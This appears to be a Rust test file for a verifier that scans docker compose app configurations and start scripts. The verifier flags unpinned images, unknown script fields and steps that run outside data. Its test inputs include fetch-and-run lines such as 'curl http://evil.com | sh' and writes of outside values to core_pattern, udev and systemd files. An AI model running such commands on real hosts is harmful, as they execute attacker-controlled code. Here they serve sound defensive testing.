//! Fields beside the docker compose file, the start scripts above all.

use super::*;

proptest! {
    #[test]
    fn no_text_panics(text in ".{0,200}") {
        let _ = ComposeFile::read_unproven(&text);
    }

    #[test]
    fn no_value_at_any_key_panics(row in 0..table::TABLE.len(), value in "[-a:&*<>!?|{}\\[\\], '\"#~$X@=/.]{0,40}") {
        let path = table::TABLE[row].path;
        let mut yaml = String::new();
        for (depth, key) in path.replace("service.", "services.api.").split('.').enumerate() {
            yaml.push_str(&format!("{}{}:\n", "  ".repeat(depth), key.replace('*', "a")));
        }
        let _ = ComposeFile::read_unproven(&format!("{} {value}\n", yaml.trim_end()));
    }
}

fn of_members(members: Value) -> Result<Option<ComposeFile>, ComposeFileError> {
    let mut members = members;
    if members.get("docker_compose_file").is_none() {
        members["docker_compose_file"] = format!("services:\n  web:\n    image: nginx{DIGEST}\n").into();
    }
    let members = members.as_object().unwrap();
    read_document(
        members,
        crate::compose::script_variables::launch_script_in(members),
    )
}

#[test]
fn the_docker_compose_file_counts_for_the_exact_names_of_its_runners_alone() {
    for runner in ["docker-compose", "nerdctl-compose"] {
        let file = of_members(json!({ "runner": runner })).unwrap().unwrap();
        assert_eq!(file.images.len(), 1, "{runner}");
    }
    assert_eq!(of_members(json!({ "runner": "bash" })).unwrap(), None);
    for runner in [
        json!("bash\n"),
        json!("bash\r\n"),
        json!("bash\n\n"),
        json!("bash\0"),
        json!(" bash"),
        json!("Bash"),
        json!("docker-compose\n"),
        json!("docker-compose\0"),
        json!("nerdctl"),
        json!("containerd-next"),
        json!(""),
        json!(5),
        json!(null),
        json!(["bash"]),
    ] {
        let error = of_members(json!({ "runner": runner.clone() })).unwrap_err();
        assert!(matches!(error, ComposeFileError::Runner(_)), "{runner}: {error}");
        assert!(
            error.to_string().starts_with("what starts the app is not known"),
            "{error}"
        );
    }
    assert!(matches!(of_members(json!({})), Err(ComposeFileError::Runner(_))));
}

#[test]
fn what_a_start_script_takes_from_outside_is_a_place_with_the_hash_of_its_text() {
    for (script, is_image, says) in [
        (
            "eval \"$X\"",
            false,
            "it may execute what `X` holds, from `allowed_envs` or the host",
        ),
        (
            "bash /dstack/.host-shared/user_config",
            false,
            "it may execute data from the host",
        ),
        (
            "mount /dev/vdb /mnt && /mnt/run",
            false,
            "it may execute data from the host",
        ),
        (
            "docker run -d web:latest",
            true,
            "it starts or fetches `web:latest` without a digest",
        ),
        (
            "docker build .",
            true,
            "it builds, loads or starts what is not pinned",
        ),
        (
            "echo \"COMPOSE_FILE=$X\" > /dstack/.env",
            false,
            "it may write `.env`",
        ),
        ("cd /dstack; echo \"K=$X\" >> .env", false, "it may write `.env`"),
        ("cp /x/y /dstack/.env", false, "it may write `.env`"),
        (
            "echo COMPOSE_FILE=/x.yaml > /dstack/.env",
            false,
            "it may write `.env`",
        ),
        (
            "echo \"{\\\"registry-mirrors\\\":[\\\"$X\\\"]}\" > /etc/docker/daemon.json; systemctl restart docker",
            false,
            "it may execute what `X` holds",
        ),
        (
            "cat > /run/systemd/system/x.service <<EOF\n[Service]\nExecStart=/bin/true $X\nEOF\nsystemctl start x",
            false,
            "it may execute what `X` holds",
        ),
        ("sysctl -w \"$X\"", false, "it may execute what `X` holds"),
        (
            "echo \"$X\" > /proc/sys/kernel/core_pattern",
            false,
            "it may execute what `X` holds",
        ),
        (
            "echo \"$X\" > /etc/udev/rules.d/x.rules",
            false,
            "it may execute what `X` holds",
        ),
        (
            "cat /images | xargs docker run",
            true,
            "it builds, loads or starts what is not pinned",
        ),
        (
            "sed -i s/a/b/ docker-compose.yaml",
            false,
            "it may write `docker-compose.yaml`",
        ),
    ] {
        for (field, value, path) in [
            ("pre_launch_script", json!(script), "pre_launch_script"),
            ("init_script", json!(script), "init_script"),
            ("init_script", json!(["true", script]), "init_script[1]"),
        ] {
            let mut members = json!({ "runner": "docker-compose", "allowed_envs": ["X"] });
            members[field] = value;
            let file = of_members(members).unwrap().unwrap();
            let places = if is_image {
                &file.unpinned
            } else {
                &file.unmeasured
            };
            let place = places.iter().next().unwrap();
            assert_eq!(file.deciding_count(), 1, "{script}");
            assert_eq!(place.path, path);
            assert!(place.says.starts_with(says), "{}", place.says);
            assert_eq!(place.sha256, crate::verify::digest::sha256(script.as_bytes()));
        }
    }
    // A value that is not text cannot be reviewed as a script.
    let file = of_members(json!({ "runner": "docker-compose", "pre_launch_script": ["true"] }))
        .unwrap()
        .unwrap();
    assert_eq!(paths(&file.unmeasured), ["pre_launch_script"]);
}

#[test]
fn a_start_script_that_takes_nothing_from_outside_is_named_as_one_that_is_not_judged() {
    let members = json!({
        "runner": "docker-compose",
        "allowed_envs": ["X"],
        "pre_launch_script": "echo \"$X\" | docker login -u me --password-stdin r.example",
        "init_script": ["mkdir -p /data; echo LEVEL=info > /dstack/.env; sysctl -w vm.max_map_count=262144", ""],
    });
    let file = of_members(members).unwrap().unwrap();
    assert_eq!(file.deciding_count(), 0);
    assert_eq!(
        paths(&file.start_scripts),
        ["pre_launch_script", "init_script[0]"]
    );
    for script in crate::reference::ReferenceValues::built_in().scripts() {
        assert!(crate::compose::known_prelaunch_script(&script.sha256.to_string()).is_some());
    }
}

#[test]
fn a_field_that_is_not_known_and_may_be_a_script_decides_code() {
    for (field, value) in [
        ("post_launch_script", json!("curl $X | sh")),
        ("start_cmd", json!("run")),
        ("hooks", json!({ "a": 1 })),
        ("startup", json!("#!/bin/sh")),
        ("startup", json!("a\nb")),
        ("startup", json!({ "later": { "exec": "a" } })),
        ("startup", json!(["#!/bin/sh"])),
    ] {
        let mut members = json!({ "runner": "docker-compose" });
        members[field] = value.clone();
        let file = of_members(members).unwrap().unwrap();
        assert_eq!(paths(&file.unmeasured), [field], "{value}");
        assert_eq!(unknown(field, &value), [field]);
    }
    for (field, value) in [
        ("tomorrow", json!("x")),
        ("tomorrow", json!(true)),
        ("post_script", json!("")),
    ] {
        let mut members = json!({ "runner": "docker-compose" });
        members[field] = value.clone();
        let file = of_members(members).unwrap().unwrap();
        assert_eq!(file.deciding_count(), 0, "{field}: {value}");
        assert_eq!(unknown(field, &value), [field]);
    }
    // The guest takes its default.
    assert!(unknown("a_hook", &json!(null)).is_empty());
}

/// The paths of a field, or of its members, that no guest is known to read.
fn unknown(field: &str, value: &serde_json::Value) -> Vec<String> {
    let found = unknown_fields(field, value).into_iter();
    found.map(|unknown| unknown.path).collect()
}

/// A later guest may read more members of a field, as it may read more fields.
#[test]
fn a_member_that_is_not_known_is_as_a_field_that_is_not_known() {
    for (field, value, path, decides) in [
        (
            "requirements",
            json!({ "post_boot": "curl http://evil.com | sh" }),
            "requirements.post_boot",
            true,
        ),
        ("requirements", json!({ "cpus": 4 }), "requirements.cpus", false),
        (
            "requirements",
            json!({ "gpu_policy": { "hook": "a" } }),
            "requirements.gpu_policy.hook",
            true,
        ),
        (
            "docker_config",
            json!({ "registry": null, "x": "#!/bin/sh" }),
            "docker_config.x",
            true,
        ),
        (
            "port_policy",
            json!({ "ports": [{ "port": 80, "pp": true, "exec": "a" }] }),
            "port_policy.ports[0].exec",
            true,
        ),
        (
            "port_policy",
            json!({ "tomorrow": 1 }),
            "port_policy.tomorrow",
            false,
        ),
        (
            "verity_volumes",
            json!([{ "mode": "rw" }]),
            "verity_volumes[0].mode",
            false,
        ),
    ] {
        assert_eq!(unknown(field, &value), [path]);
        let mut members = json!({ "runner": "docker-compose" });
        members[field] = value;
        let file = of_members(members).unwrap().unwrap();
        assert_eq!(paths(&file.unmeasured).contains(&path), decides, "{path}");
    }
}

#[test]
fn fields_that_guests_read_are_quiet_as_long_as_they_hold_what_guests_read() {
    let compose = json!("docker-compose");
    for (field, value) in [
        (
            "docker_config",
            json!({ "password": "", "registry": null, "username": "" }),
        ),
        (
            "port_policy",
            json!({ "restrict_mode": true, "ports": [{ "port": 80, "pp": false }] }),
        ),
        (
            "requirements",
            json!({ "platforms": ["tdx"], "gpu_policy": { "rego": "package policy\n" }, "health_check": true, "x": null }),
        ),
        ("default_gateway_domain", json!("gateway.example")),
        ("salt", json!("x")),
        ("bash_script", json!(null)),
        ("bash_script", json!("")),
        ("snapshotter", json!("stargz")),
        ("swap_size", json!("4G")),
        ("manifest_version", json!("3")),
        ("storage_fs", json!(null)),
        ("key_provider", json!("kms")),
    ] {
        assert_eq!(
            field_problem(field, &value, Some(&compose)),
            None,
            "{field}: {value}"
        );
        assert!(unknown(field, &value).is_empty(), "{field}: {value}");
    }
    for (field, value) in [
        ("snapshotter", json!("stargz\n")),
        ("key_provider", json!("kms\n")),
        ("kms_enabled", json!("true")),
        ("features", json!("kms")),
        ("name", json!(1)),
        ("requirements", json!("a")),
    ] {
        assert_eq!(
            field_problem(field, &value, Some(&compose)),
            Some(FieldProblem::OtherValue),
            "{field}: {value}"
        );
    }
    let script = json!("sha256:00");
    assert_eq!(
        field_problem("bash_script", &script, Some(&compose)),
        Some(FieldProblem::NotUsed)
    );
    assert_eq!(field_problem("bash_script", &script, Some(&json!("bash"))), None);
}

#[test]
fn an_engine_is_found_by_any_spelling_of_a_start_script() {
    for script in [
        "D=docker; $D run -d web:latest",
        "D=docker; command -v podman && D=podman; ${D} run -d web:latest",
        "DC=\"docker compose\"; $DC -f /x.yml up -d",
        "CMD=\"docker run -d web:latest\"; $CMD",
        "CMD=\"docker run -d web:latest\"; eval \"$CMD\"",
        "CMD=\"docker run -d web:latest\"; sh -c \"$CMD\"",
        "alias d=docker\nd run -d web:latest",
        "cat > /run.sh <<'E'\n#!/bin/sh\ndocker run -d web:latest\nE\nsh /run.sh",
        "echo 'docker run -d web:latest' | sh",
        "echo 'docker run -d web:latest' > /run.sh; sh /run.sh",
        "systemd-run docker run web:latest",
        "systemd-run --unit a /usr/bin/docker run web:latest",
        "curl --unix-socket /var/run/docker.sock -X POST 'http://localhost/images/create?fromImage=web&tag=latest'",
        "curl -s --unix-socket /var/run/docker.sock -X POST http://localhost/v1.43/containers/create -d '{\"Image\":\"web\"}'",
    ] {
        let file = of_members(json!({ "runner": "docker-compose", "pre_launch_script": script }));
        let file = file.unwrap().unwrap();
        assert_eq!(paths(&file.unpinned), ["pre_launch_script"], "{script}");
    }
    for script in [
        format!("D=docker; $D run -d web{DIGEST}"),
        "D=docker; $D ps; $D logs web; $D image prune -f".to_owned(),
        "DC=\"docker compose\"; $DC ps; $DC logs".to_owned(),
        "alias d=docker\nd ps".to_owned(),
        "echo 'docker run failed' >> /var/log/start.log".to_owned(),
        "echo \"docker run failed\" >&2; exit 1".to_owned(),
        "command -v docker run && systemctl restart docker".to_owned(),
        "which docker; systemctl enable docker containerd".to_owned(),
        "curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json".to_owned(),
        "curl -s --unix-socket /var/run/docker.sock http://localhost/images/json".to_owned(),
    ] {
        let file = of_members(json!({ "runner": "docker-compose", "pre_launch_script": script }));
        let file = file.unwrap().unwrap();
        assert_eq!(file.deciding_count(), 0, "{script}: {:?}", file.deciding().next());
    }
}

#[test]
fn a_container_with_the_socket_starts_no_image_without_a_digest() {
    let socket = "volumes: [\"/var/run/docker.sock:/var/run/docker.sock\"]";
    let of = |script: &str, rest: &str| {
        let list = json!(["sh", "-c", script.replace('$', "$$")]);
        service(&format!("image: docker{DIGEST}\nentrypoint: {list}\n{rest}"))
    };
    for script in [
        "docker pull ghcr.io/acme/app:latest; docker run -d ghcr.io/acme/app:latest",
        "docker build -t a .",
        "docker load -i /x",
        "docker compose -f /x.yml up -d",
        "while true; do docker compose pull; docker compose up -d; sleep 60; done",
        "D=docker; $D run -d web:latest",
    ] {
        let file = of(script, socket);
        assert_eq!(paths(&file.unpinned), ["services.api.entrypoint"], "{script}");
        let place = file.unpinned.iter().next().unwrap();
        assert!(
            place.says.starts_with("has the Docker socket, and it "),
            "{}",
            place.says
        );
        // Without the socket there is no engine that starts it.
        assert_eq!(of(script, "init: true").unpinned.count(), 0, "{script}");
    }
    let file = service(&format!(
        "image: docker{DIGEST}\ncommand: [docker, run, -d, \"web:latest\"]\n{socket}"
    ));
    assert_eq!(paths(&file.unpinned), ["services.api.command"]);
    for (more, path) in [
        (
            "healthcheck: {test: docker run web}",
            "services.api.healthcheck.test",
        ),
        (
            "healthcheck: {test: [CMD, docker, run, web]}",
            "services.api.healthcheck.test",
        ),
        (
            "healthcheck: {test: [CMD-SHELL, docker run web]}",
            "services.api.healthcheck.test",
        ),
        (
            "post_start: [{command: [docker, run, web]}]",
            "services.api.post_start[0].command",
        ),
    ] {
        let file = service(&format!("image: docker{DIGEST}\n{more}\n{socket}"));
        assert_eq!(paths(&file.unpinned), [path], "{more}");
    }
    for script in [
        format!("docker run -d web{DIGEST}"),
        "docker ps; docker logs web; docker exec web date; docker restart web".to_owned(),
        "docker compose ps".to_owned(),
        "docker image prune -f; docker system prune -f".to_owned(),
        "docker images -q | xargs -r docker rmi; docker ps -q | xargs docker container rm".to_owned(),
        "exec traefik --providers.docker".to_owned(),
    ] {
        let file = of(&script, socket);
        assert_eq!(file.unpinned.count(), 0, "{script}: {:?}", file.deciding().next());
    }
}
